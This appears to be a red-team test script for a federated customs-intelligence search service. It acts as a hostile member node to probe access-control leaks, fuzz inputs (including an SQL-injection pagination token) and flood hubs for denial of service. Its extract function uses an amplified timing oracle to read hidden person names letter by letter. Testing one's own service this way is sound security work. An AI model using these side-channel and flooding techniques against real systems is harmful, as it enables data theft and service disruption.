"""Attack: a hostile member node, with only its own certificate and key, calls
SyncService.HubSearch at hubs (and at nodes that act as hubs) directly.

    .venv/bin/python -m tests.redteam_search.attack_member [probe|bounds|tokens|timing|flood]
Prints one JSON line per observation. Audiences a caller may see are the rule of
the directory: node:<self>, national:<its country>, region:<its region>, global,
bilateral:<pairs with its country>.
"""

from __future__ import annotations

import base64
import json
import statistics
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from typing import Any

import grpc

from gcn.v1 import envelope_pb2 as epb
from gcn.v1 import records_pb2 as rec
from gcn.v1 import search_pb2 as spb
from tests.redteam_search.rt_client import member

COUNTRY = {"KE": "KE", "KE-MBA": "KE", "TZ": "TZ", "VN": "VN"}
REGION = {"KE": "ESA", "KE-MBA": "ESA", "TZ": "ESA", "VN": "SEA", "RINEX-ESA": "ESA", "RINEX-SEA": "SEA"}
BILATERAL = {"KE": ["bilateral:KE+VN"], "KE-MBA": ["bilateral:KE+VN"], "VN": ["bilateral:KE+VN"]}
MARKERS = [
    "zzredsecret",
    "zzambersecret",
    "zzbilateralsecret",
    "zzgreenmark",
    "zzretractme",
    "zzcorrectme",
    "zzcorrected",
    "zztzsecret",
    "zzseamark",
    "zzvnsecret",
    "pangolin",
    "zz",
]


def allowed(caller: str) -> set[str]:
    a = {f"node:{caller}", "global"}
    if caller in COUNTRY:
        a.add(f"national:{COUNTRY[caller]}")
    if caller in REGION:
        a.add(f"region:{REGION[caller]}")
    a.update(BILATERAL.get(caller, []))
    return a


def out(**kw: object) -> None:
    print(json.dumps(kw), flush=True)


def header(hit: spb.HubSearchHit) -> epb.EnvelopeHeader:
    return epb.EnvelopeHeader.FromString(hit.envelope.header)


def call(
    stub: Any, q: spb.SearchQuery, page_size: int = 100, after: str = "", timeout: float = 10
) -> tuple[Any, str | None, float]:
    t0 = time.perf_counter()
    try:
        r = stub.HubSearch(spb.HubSearchRequest(query=q, page_size=page_size, after=after), timeout=timeout)
        return r, None, time.perf_counter() - t0
    except grpc.RpcError as e:
        return None, f"{e.code().name}: {e.details()}", time.perf_counter() - t0


PAIRS = [
    ("TZ", "RINEX-ESA"),
    ("KE-MBA", "KE"),
    ("TZ", "KE"),
    ("VN", "RINEX-ESA"),
    ("VN", "KE"),
    ("KE", "RINEX-SEA"),
    ("TZ", "WCO-GLOBAL"),
    ("WCO-GLOBAL", "RINEX-ESA"),
    ("RINEX-SEA", "RINEX-ESA"),
    ("KE-MBA", "RINEX-ESA"),
    ("TZ", "VN"),
    ("KE-MBA", "WCO-GLOBAL"),
]


def probe() -> None:
    """Every marker and an empty query, paged to the end: any audience outside the caller's?"""
    for caller, hub in PAIRS:
        stub = member(caller, hub)
        ok = allowed(caller)
        for word in [*MARKERS, ""]:
            q = spb.SearchQuery(text=word) if word else spb.SearchQuery()
            after, seen, pages, leaks = "", 0, 0, []
            audiences: set[str] = set()
            while True:
                r, err, _ = call(stub, q, 100, after)
                if err:
                    out(caller=caller, hub=hub, q=word, error=err)
                    break
                pages += 1
                for h in r.hits:
                    hd = header(h)
                    audiences.add(hd.audience)
                    if hd.audience not in ok:
                        leaks.append((hd.audience, hd.origin, hd.record_id))
                seen += len(r.hits)
                if not r.more or not r.hits or pages > 50:
                    break
                hd = header(r.hits[-1])
                # position token of the last hit: we do not know its event date from the header; use the
                # hub's own ordering by re-asking with a token computed from the body is impossible without
                # the key, so page with a far-past token instead only once
                break
            if err is None:
                out(
                    caller=caller,
                    hub=hub,
                    q=word,
                    hits=seen,
                    more=r.more,
                    audiences=sorted(audiences),
                    LEAK=leaks[:5],
                )


def tok(raw: str) -> str:
    return base64.urlsafe_b64encode(raw.encode()).decode().rstrip("=")


def bounds() -> None:
    stub = member("TZ", "RINEX-ESA")
    for ps in (0, -1, 101, 2**31 - 1, -(2**31)):
        r, err, _ = call(stub, spb.SearchQuery(), ps)
        out(test="page_size", value=ps, error=err, hits=None if r is None else len(r.hits))
    big = "a" * 256
    fields: dict[str, Any] = dict(
        text=" ".join(["a"] * 8),
        company=" ".join(["b"] * 8),
        person=" ".join(["c"] * 8),
        species=" ".join(["d"] * 8),
        vessel=" ".join(["e"] * 8),
    )
    r, err, t = call(stub, spb.SearchQuery(**fields), 100)
    out(test="40 one-letter prefixes", error=err, secs=round(t, 3), hits=None if r is None else len(r.hits))
    for f in (
        "text",
        "company",
        "person",
        "species",
        "vessel",
        "container_number",
        "flight",
        "port",
        "operation_code",
        "origin",
        "country",
        "hs_code_prefix",
        "date_from",
        "in_force_on",
    ):
        for v in (big, "a" * 257, "\u0000\u202e" + "x" * 10, "\U0010ffff", "é" * 200, "ǅ" * 256):
            kw: dict[str, Any] = {f: v}
            r, err, t = call(stub, spb.SearchQuery(**kw), 100)
            out(
                test="field",
                field=f,
                value=repr(v[:12]),
                len=len(v),
                error=(err or "")[:160],
                secs=round(t, 3),
                hits=None if r is None else len(r.hits),
            )
    for number in (999, -5):
        for f in ("tlp", "kind", "commodity", "country_role", "order"):
            kw = {f: number}
            r, err, _ = call(stub, spb.SearchQuery(**kw), 10)
            out(test="enum", field=f, value=number, error=(err or "")[:160])


def tokens() -> None:
    stub = member("TZ", "RINEX-ESA")
    cases = {
        "garbage": "!!!",
        "b64 junk": tok("hello"),
        "far future": tok("p1:9999-12-31:ZZ:ffffffff-ffff-ffff-ffff-ffffffffffff"),
        "far past": tok("p1:0001-01-01:AA:00000000-0000-0000-0000-000000000000"),
        "bad date": tok("p1:2026-02-30:KE:00000000-0000-0000-0000-000000000000"),
        "lowercase origin": tok("p1:2026-11-20:ke:00000000-0000-0000-0000-000000000000"),
        "padded": tok("p1:2026-11-20:KE:00000000-0000-0000-0000-000000000000") + "==",
        "160 chars": "A" * 160,
        "161 chars": "A" * 161,
        "sql": tok("p1:2026-11-20:KE:' OR 1=1 --------------------------"),
    }
    for name, t in cases.items():
        r, err, _ = call(stub, spb.SearchQuery(), 5, t)
        out(
            test="after",
            case=name,
            error=(err or "")[:200],
            hits=None if r is None else len(r.hits),
            more=None if r is None else r.more,
        )


def timing(n: int = 60) -> None:
    """Latency of a hidden-but-present word vs an absent word, same caller and hub."""
    stub = member("TZ", "KE")  # KE holds node:KE (red) and national:KE (amber): both hidden from TZ
    words = {
        "hidden red (node:KE)": "zzredsecret",
        "hidden amber (national:KE)": "zzambersecret",
        "absent": "zzabsentword",
        "visible green": "zzgreenmark",
    }
    for _ in range(5):
        for w in words.values():
            call(stub, spb.SearchQuery(text=w), 20)
    res: dict[str, list[float]] = {k: [] for k in words}
    for _ in range(n):
        for k, w in words.items():
            _r, _err, t = call(stub, spb.SearchQuery(text=w), 20)
            res[k].append(t * 1000)
    for k, v in res.items():
        out(
            test="timing",
            case=k,
            median_ms=round(statistics.median(v), 2),
            p10=round(sorted(v)[n // 10], 2),
            p90=round(sorted(v)[9 * n // 10], 2),
        )


def flood(workers: int = 32, seconds: float = 15) -> None:
    """Many concurrent expensive searches from TZ at RINEX-ESA; meanwhile time KE-MBA's Pull-free calls."""
    stub = member("TZ", "RINEX-ESA")
    q = spb.SearchQuery(text="a b c d e f g h", company="a b c d e f g h", person="a b c d e f g h")
    stop = time.monotonic() + seconds
    lat: list[float] = []
    errs: dict[str, int] = {}

    def worker() -> None:
        while time.monotonic() < stop:
            _r, err, t = call(stub, q, 100, timeout=30)
            lat.append(t)
            if err:
                errs[err[:60]] = errs.get(err[:60], 0) + 1

    with ThreadPoolExecutor(workers) as pool:
        for _ in range(workers):
            pool.submit(worker)
    out(
        test="flood",
        workers=workers,
        calls=len(lat),
        median_s=round(statistics.median(lat), 3),
        max_s=round(max(lat), 3),
        errors=errs,
    )


def oracle(n: int = 40) -> None:
    """Amplified timing oracle: a probe prefix first, then 30 common one-letter prefixes.
    If the probe matches no term anywhere in the hub's store, the hub's planner stops
    after one count; if it matches a term of a record the caller may NOT read, the hub
    counts all 31 criteria (up to DRIVE_LIMIT rows each) and still answers nothing."""
    caller, hub = (sys.argv[2], sys.argv[3]) if len(sys.argv) > 3 else ("TZ", "KE")
    stub = member(caller, hub)
    common = "a b c d e f g"
    words = " ".join(["a", "b", "c", "d", "e", "f", "g", "h"])
    probes = {
        "hidden zzredsec (node:KE, TLP:RED)": "zzredsec",
        "hidden zzambers (national:KE)": "zzambers",
        "hidden zzbilat (bilateral:KE+VN)": "zzbilat",
        "absent zzredsex": "zzredsex",
        "absent zzqq": "zzqq",
        "absent zzambery": "zzambery",
    }

    def q(p: str) -> spb.SearchQuery:
        return spb.SearchQuery(text=f"{p} {common}", company=words, person=words, species=words)

    for p in probes.values():
        call(stub, q(p), 20)
    res: dict[str, list[float]] = {k: [] for k in probes}
    hits: dict[str, int] = {}
    for _ in range(n):
        for k, p in probes.items():
            r, _err, t = call(stub, q(p), 20)
            res[k].append(t * 1000)
            hits[k] = -1 if r is None else len(r.hits)
    for k, v in res.items():
        s = sorted(v)
        out(
            test="oracle",
            caller=caller,
            hub=hub,
            case=k,
            hits=hits[k],
            median_ms=round(statistics.median(v), 2),
            min_ms=round(s[0], 2),
            max_ms=round(s[-1], 2),
        )


def extract(samples: int = 5, depth: int = 7) -> None:
    """Read hidden words out of a hub with the oracle: person-name prefixes of KE's
    national:KE records (the region view TZ may read has no persons), letter by letter."""
    caller, hub = (sys.argv[2], sys.argv[3]) if len(sys.argv) > 3 else ("TZ", "KE")
    stub = member(caller, hub)
    amp: dict[str, Any] = dict(
        species="a b c d e f g h", commodity=1, country="KE", kind=epb.RECORD_KIND_SEIZURE
    )

    def t(prefix: str) -> float:
        best = 1e9
        for _ in range(samples):
            r, err, dt = call(stub, spb.SearchQuery(person=prefix, **amp), 20)
            if err or r.hits:
                return -1.0  # error, or visible results: not a hidden-only probe
            best = min(best, dt * 1000)
        return best

    absent = min(t("qqqqzz"), t("zzzqqx"), t("xqjzv"))
    threshold = absent * 1.6
    out(test="extract", calibration_absent_ms=round(absent, 2), threshold_ms=round(threshold, 2))
    frontier = [""]
    found: list[str] = []
    t0 = time.monotonic()
    calls = 0
    while frontier:
        prefix = frontier.pop()
        hits = []
        for ch in "abcdefghijklmnopqrstuvwxyz":
            v = t(prefix + ch)
            calls += samples
            if v > threshold:  # confirm: every one of 3x more samples slow, against a fresh absent control
                control = t("qx" + prefix + ch + "qx")
                recheck = min(t(prefix + ch) for _ in range(3))
                calls += 4 * samples
                if recheck > max(threshold, control * 1.6):
                    hits.append(prefix + ch)
        if len(prefix) + 1 >= depth or not hits:
            if prefix:
                found.append(prefix)
            found.extend(h for h in hits if len(h) >= depth)
            continue
        frontier.extend(hits)
        if len(found) > 12:
            break
    out(
        test="extract",
        hidden_person_prefixes=sorted(set(found)),
        calls=calls,
        secs=round(time.monotonic() - t0, 1),
    )


def starve(workers: int = 48, seconds: float = 20) -> None:
    """TZ floods KE's federation listener with the heaviest accepted query (32 criteria,
    page 100) from `workers` threads; meanwhile KE-MBA (KE's child) times its sync calls
    (GetVector, what every sync round starts with) and a cheap HubSearch at KE."""
    from gcn.v1 import sync_pb2

    heavy = spb.SearchQuery(
        text="a b c d e f g h", company="a b c d e f g h", person="a b c d e f g h", species="a b c d e f g h"
    )
    victim = member("KE-MBA", "KE")

    def probe_victim(label: str, n: int = 15) -> None:
        lat, errs = [], 0
        for _ in range(n):
            t0 = time.perf_counter()
            try:
                victim.GetVector(sync_pb2.GetVectorRequest(), timeout=30)
            except grpc.RpcError:
                errs += 1
            lat.append((time.perf_counter() - t0) * 1000)
            time.sleep(0.2)
        out(
            test="starve",
            phase=label,
            victim="KE-MBA GetVector at KE",
            median_ms=round(statistics.median(lat), 1),
            max_ms=round(max(lat), 1),
            errors=errs,
        )

    probe_victim("before")
    stop = time.monotonic() + seconds
    lat: list[float] = []
    errs: dict[str, int] = {}

    def worker() -> None:
        stub = member("TZ", "KE")
        while time.monotonic() < stop:
            _r, err, t = call(stub, heavy, 100, timeout=30)
            lat.append(t)
            if err:
                errs[err[:60]] = errs.get(err[:60], 0) + 1

    with ThreadPoolExecutor(workers + 1) as pool:
        fs = [pool.submit(worker) for _ in range(workers)]
        time.sleep(2)
        probe_victim("during flood")
        for f in fs:
            f.result()
    out(
        test="starve",
        attacker_calls=len(lat),
        attacker_median_s=round(statistics.median(lat), 3),
        attacker_max_s=round(max(lat), 3),
        errors=errs,
    )
    probe_victim("after")


def cost(caller: str = "KE", hub: str = "RINEX-ESA", n: int = 5) -> None:
    """Hub latency per query shape, single caller, sequential (`setup_bulk` first for a big store)."""
    stub = member(caller, hub)
    shapes = {
        "container exact (cheap)": spb.SearchQuery(container_number="CSQU3054383"),
        "empty query": spb.SearchQuery(),
        "hs 44 AND wildlife (disjoint, both common)": spb.SearchQuery(
            hs_code_prefix="44", commodity=rec.COMMODITY_WILDLIFE
        ),
        "hs 29 AND timber AND species a (disjoint)": spb.SearchQuery(
            hs_code_prefix="29", commodity=rec.COMMODITY_TIMBER, species="d"
        ),
        "country KE AND hs 44 AND wildlife": spb.SearchQuery(
            country="TZ", hs_code_prefix="44", commodity=rec.COMMODITY_WILDLIFE
        ),
        "32 one-letter prefixes": spb.SearchQuery(
            text="a b c d e f g h",
            company="a b c d e f g h",
            person="a b c d e f g h",
            species="a b c d e f g h",
        ),
    }
    for name, q in shapes.items():
        lat, hits, err = [], None, None
        for _ in range(n):
            r, err, t = call(stub, q, 100, timeout=60)
            lat.append(t * 1000)
            hits = None if r is None else len(r.hits)
        out(
            test="cost",
            caller=caller,
            hub=hub,
            shape=name,
            hits=hits,
            error=err,
            median_ms=round(statistics.median(lat), 1),
            max_ms=round(max(lat), 1),
        )


if __name__ == "__main__":
    globals()[sys.argv[1] if len(sys.argv) > 1 else "probe"]()
